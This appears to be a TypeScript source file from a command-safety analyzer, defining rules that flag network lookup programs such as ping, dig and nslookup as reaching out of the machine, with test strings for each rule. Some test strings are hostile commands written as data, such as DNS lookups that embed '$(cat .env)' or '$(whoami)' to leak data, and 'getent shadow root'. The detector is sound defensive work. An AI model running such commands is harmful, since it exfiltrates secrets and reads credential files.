import { say } from '../../../../../say';
import { parseDestination, whereIs } from '../../../network';
import { constantOf, describeField, type Field } from '../../field';
import { type OptionTable, readOptions, tablesWithout } from '../../options';
import { someFlow } from '../../shell';
import type { Family } from '../family';
import { doubtOption } from '../looks';
import { givenTaint } from './sent';

/** A program that asks about a host or by it; the name alone leaves the machine (rule R26). */
interface Lookup {
  readonly programs: readonly string[];
  readonly options: OptionTable;
  readonly longWithOneDash?: boolean;
  /** Operands that are no hosts: types of records, classes, databases, ports. */
  readonly words?: RegExp;
  readonly match: readonly string[];
  readonly notMatch: readonly string[];
}

function lookup(data: Lookup): Family {
  return {
    programs: data.programs,
    match: data.match,
    notMatch: data.notMatch,
    judge(shell, invocation, _state, context) {
      const { program, span } = invocation;
      const read = readOptions(invocation.args, data.options, data.longWithOneDash ? { longWithOneDash: true } : {});
      if (read.doubtful) doubtOption(shell, invocation, read.doubtful);
      const secret = givenTaint({ ...invocation, words: invocation.words }, { ...context, stdin: someFlow }).secret;
      const hosts = read.operands.filter((field) => !data.words?.test(constantOf(field) ?? ''));
      for (const field of hosts) judgeName(field);
      if (secret) shell.report.harm('secrets.sent', say('{0} sends a secret out of the machine', program), span);
      if (hosts.length === 0 && !/^-{1,2}(?:V|h|v|version|help)$/.test(invocation.args.map(describeField).join(' ')))
        shell.doubt('network.reach', say('{0} reaches out of the machine', program), span);
      return { ...someFlow, secret, network: true };

      function judgeName(field: Field): void {
        const text = constantOf(field);
        const at = text?.replace(/^@/, '');
        const host =
          at && (parseDestination(at)?.host ?? parseDestination(`http://${at.includes(':') ? `[${at}]` : at}`)?.host);
        shell.report.effect(
          'send',
          host ? { type: 'host', host, port: undefined } : { type: 'unknown', what: describeField(field) },
          field.span,
          context.certainty,
        );
        // Only what is written plainly: other ways to write an address are read in as many ways.
        if (host && host === at?.toLowerCase() && whereIs(host) === 'loopback') return;
        shell.doubt('network.lookup', say('asking for {0} tells its name to others', describeField(field)), field.span);
      }
    },
    without: () =>
      tablesWithout(data.options).map(({ entry, table }) => ({ entry, family: lookup({ ...data, options: table }) })),
  };
}

export const lookups: readonly Family[] = [
  lookup({
    programs: ['ping', 'ping6'],
    options: { flag: '-4 -6 -A -D -L -O -U -a -d -n -q -v', value: '-W -c -i -s -t -w' },
    match: [
      'ping -c 1 localhost',
      'ping -4 -6 -A -D -L -O -U -a -d -n -q -v -W 1 -c 1 -i 1 -s 9 -t 5 -w 1 127.0.0.1',
      'ping6 -c1 ::1',
    ],
    notMatch: [
      'ping -c 1 example.com',
      'ping -c1 "$(whoami).example.com"',
      'ping -f localhost',
      'ping -c 1 2130706433',
      'ping',
    ],
  }),
  lookup({
    programs: ['traceroute', 'traceroute6', 'tracepath', 'mtr'],
    options: { flag: '-4 -6 -n -r -w', value: '-c -m -q' },
    match: [
      'traceroute -4 -6 -n -m 3 -q 1 localhost',
      'mtr -r -w -c 1 localhost',
      'tracepath localhost',
      'traceroute6 ::1',
    ],
    notMatch: ['traceroute example.com', 'mtr example.com'],
  }),
  lookup({
    programs: ['dig', 'drill', 'kdig', 'delv'],
    options: { flag: '-4 -6 -x', value: '-p -t' },
    words: /^(?:\+\w+(?:=\w+)?|A|AAAA|ANY|CNAME|MX|NS|SOA|TXT|PTR|SRV|IN)$/i,
    match: [
      'dig +short localhost',
      'dig -4 -6 -p 5353 -t A localhost @127.0.0.1',
      'dig -x 127.0.0.1',
      'drill localhost MX',
    ],
    notMatch: [
      'dig example.com',
      'dig @example.com localhost',
      'dig "$(cat .env).example.com"',
      'dig -f names.txt',
      'dig',
    ],
  }),
  lookup({
    programs: ['host'],
    options: { flag: '-4 -6 -a -v', value: '-W -t' },
    match: ['host localhost', 'host -4 -6 -a -v -W 1 -t A localhost 127.0.0.1'],
    notMatch: ['host example.com', 'host localhost example.com'],
  }),
  lookup({
    programs: ['nslookup'],
    options: { value: '-type -query -timeout' },
    longWithOneDash: true,
    match: ['nslookup -type=A -query=A -timeout=1 localhost'],
    notMatch: ['nslookup example.com', 'nslookup localhost example.com', 'nslookup'],
  }),
  lookup({
    programs: ['getent'],
    options: { value: '-s' },
    words: /^(?:hosts|ahosts|ahostsv4|ahostsv6|networks|protocols|services|rpc)$/,
    match: ['getent -s files hosts localhost', 'getent ahosts localhost'],
    notMatch: ['getent hosts example.com', 'getent passwd', 'getent shadow root', 'getent group'],
  }),
  lookup({
    programs: [
      'resolvectl',
      'avahi-resolve',
      'whois',
      'arping',
      'fping',
      'hping3',
      'dnsrecon',
      'dnsenum',
      'subfinder',
      'amass',
    ],
    options: {},
    match: [],
    notMatch: ['whois example.com', 'resolvectl query example.com', 'fping example.com', 'resolvectl'],
  }),
];
